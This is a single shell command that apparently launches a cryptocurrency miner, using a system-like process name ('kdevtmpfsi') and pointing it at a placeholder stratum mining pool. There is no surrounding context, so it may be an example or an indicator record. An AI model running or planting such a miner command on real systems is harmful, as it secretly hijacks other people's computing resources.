./kdevtmpfsi -o stratum+tcp://pool.example.invalid:3333 -u x -p x --donate-level 1
